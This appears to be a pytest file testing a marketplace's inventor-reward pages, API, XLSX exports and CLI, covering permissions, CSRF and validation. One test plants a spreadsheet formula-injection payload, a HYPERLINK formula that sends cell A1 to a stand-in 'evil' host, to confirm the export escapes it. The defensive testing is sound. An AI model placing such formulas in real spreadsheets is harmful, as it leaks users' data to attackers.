"""Reward and report pages and API: members only, forms change what the services say, XLSX cells formula-safe,
bad input a 4xx naming the field."""
from __future__ import annotations

import io
import re
from decimal import Decimal

from openpyxl import load_workbook

from marketplace.core import transaction
from marketplace.deals.models import Deal
from marketplace.extensions import db
from marketplace.rewards import services
from tests import factories


def test_the_office_reads_and_manages_rewards_on_its_page(ctx, client, login, office, university):
    login(university)
    page = client.get(f"/office/rewards?year={office.today.year}").get_data(as_text=True)
    assert "¥50,000.00" in page and "¥16,666.67" in page and "未登记发明人" in page
    # C: half the transfer (25,000) and the open-license payment's reward (25,000)
    assert re.search(rf'data-inventor-total="{office.inventors["C"]}">.*?</td><td class="text-end">¥50,000.00</td>', page)
    response = client.post("/office/rewards/policy", data={"transfer_license_percent": "40", "equity_percent": "50",
                                                          "agreement": "", "year_start_month": "1"})
    assert response.status_code == 302
    assert services.policy_of(university.organisation_id).statutory, "below the statute without agreement: refused"
    client.post("/office/rewards/policy", data={"transfer_license_percent": "60", "equity_percent": "50",
                                               "year_start_month": "1"})
    assert services.policy_of(university.organisation_id).transfer_license_percent == Decimal("60.00")
    client.post("/office/rewards/shares", data={"patent_id": str(office.patents[2]),
                                               "inventor_id": [str(office.inventors["A"])], "share": ["100"]})
    client.post("/office/rewards/costs", data={"source": "deal_payment", "item_id": str(office.transfer_payment),
                                              "amount": "10000", "description": "评估费"})
    client.post("/office/rewards/paid", data={"source": "deal", "item_id": str(office.equity),
                                             "paid_on": office.today.isoformat()})
    found = {i.key: i for i in services.overview(university.load(), office.today.year).incomes}
    assert found[f"deal_payment:{office.transfer_payment}"].reward == Decimal("54000.00")  # 60 % of 90,000
    assert found[f"deal:{office.equity}"].paid_on == office.today
    statement = client.get(f"/office/rewards/inventors/{office.inventors['A']}?year={office.today.year}")
    assert statement.status_code == 200 and "¥150,000.00" in statement.get_data(as_text=True)
    report = client.get(f"/office/report?year={office.today.year}").get_data(as_text=True)
    assert "¥483,333.33" in report and "¥150,000.00" in report


def test_outsiders_get_no_reward_page(ctx, client, login, office, university, company, other_university):
    login(company)
    for url in ("/office/rewards", "/office/report", "/office/rewards.xlsx", "/office/report.xlsx"):
        assert client.get(url).status_code == 403, url
    client.get("/logout")
    login(other_university)
    assert client.get(f"/office/rewards/inventors/{office.inventors['A']}").status_code == 404
    assert client.post("/office/rewards/paid", data={"source": "deal_payment", "item_id": str(office.transfer_payment),
                                                    "paid_on": office.today.isoformat()}).status_code == 302
    assert services.paid_in(university.organisation_id, office.today, office.today)[0] == 0


def test_a_bad_year_is_a_422_naming_it(ctx, client, login, office, university):
    login(university)
    response = client.get("/office/rewards?year=20x6")
    assert response.status_code == 422 and "year" in response.get_data(as_text=True)


def test_forms_need_the_csrf_token(csrf_app, office, university):
    test_client = csrf_app.test_client()
    response = test_client.post("/office/rewards/policy", data={"transfer_license_percent": "60",
                                                               "equity_percent": "60"})
    assert response.status_code == 400


def test_finance_export_is_typed_and_formula_safe(ctx, client, login, office, university):
    db.session.get(Deal, office.transfer).title = '=HYPERLINK("http://evil/?"&A1,"点击")'
    transaction.commit()
    login(university)
    response = client.get(f"/office/rewards.xlsx?year={office.today.year}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    titles = {row[1] for row in rows}
    assert "'" + '=HYPERLINK("http://evil/?"&A1,"点击") 收款' in titles
    assert sum(Decimal(str(row[11])) for row in rows[:-1]) == Decimal(str(rows[-1][11])) == Decimal("241666.67")
    report = client.get(f"/office/report.xlsx?year={office.today.year}")
    assert report.status_code == 200 and len(load_workbook(io.BytesIO(report.data)).sheetnames) == 6


def test_api_rewards_policy_shares_and_report(client, token_for, office, university, company, other_university):
    headers = token_for(university)
    year = office.today.year
    found = client.get(f"/api/v1/office/rewards?year={year}", headers=headers).get_json()
    transfer = next(i for i in found["incomes"] if i["source"] == "deal_payment" and i["item_id"] == office.transfer_payment)
    assert transfer["reward"] == "50000.00" and {p["amount"] for p in transfer["parts"]} == {
        "15000.00", "10000.00", "25000.00"}
    response = client.put("/api/v1/office/reward-policy", headers=headers,
                          json={"transfer_license_percent": "40", "equity_percent": "50"})
    assert response.status_code == 422 and "transfer_license_percent" in response.get_json()["fields"]
    response = client.put(f"/api/v1/office/patents/{office.patents[0]}/inventors", headers=headers,
                          json={"inventors": [{"inventor_id": office.inventors["A"], "share": "70"}]})
    assert response.status_code == 422 and "share" in response.get_json()["fields"]
    for bad in ({"inventors": "A=100"}, {"inventors": [{"share": "100"}]}, {}):
        response = client.put(f"/api/v1/office/patents/{office.patents[0]}/inventors", headers=headers, json=bad)
        assert response.status_code == 422, bad
    assert client.get("/api/v1/office/rewards?year=abc", headers=headers).status_code == 422
    report = client.get(f"/api/v1/office/authority-report?year={year}", headers=headers).get_json()
    assert report["total"] == {"key": "total", "label": "合计", "items": 4, "amount": "483333.33"}
    statement = client.get(f"/api/v1/office/inventors/{office.inventors['C']}/statement?year={year}",
                           headers=headers).get_json()
    assert statement["total"] == "50000.00" and len(statement["lines"]) == 2
    assert client.get(f"/api/v1/office/rewards?year={year}", headers=token_for(company)).status_code == 403
    assert client.get(f"/api/v1/office/inventors/{office.inventors['C']}/statement?year={year}",
                      headers=token_for(other_university)).status_code == 404
    paid = client.post("/api/v1/office/reward-payments", headers=headers,
                       json={"source": "deal_payment", "item_id": office.transfer_payment, "paid_on": office.today.isoformat()})
    assert paid.status_code == 201 and len(paid.get_json()) == 3
    spec = client.get("/api/v1/openapi.json").get_json()
    assert {"/api/v1/office/rewards", "/api/v1/office/authority-report",
            "/api/v1/office/patents/{patent_id}/inventors"} <= set(spec["paths"])


def test_a_member_reads_but_does_not_manage(ctx, client, login, office, university):
    member = factories.add_member(university, "member", email="staff@tsinghua.test")
    login(member)
    page = client.get(f"/office/rewards?year={office.today.year}").get_data(as_text=True)
    assert "¥50,000.00" in page and 'name="paid_on"' not in page


def test_cli_writes_the_report_and_the_rewards_sheet_as_a_member(app, office, university, tmp_path):
    runner = app.test_cli_runner()
    for option, sheets in (("--report", 6), ("--rewards", 1)):
        out = tmp_path / f"{option}.xlsx"
        result = runner.invoke(args=["office-report", university.email, str(office.today.year), str(out), option])
        assert result.exit_code == 0, result.output
        assert len(load_workbook(out).sheetnames) == sheets
    result = runner.invoke(args=["office-report", "nobody@x.test", "2026", str(tmp_path / "x.xlsx")])
    assert result.exit_code != 0 and "no user" in result.output
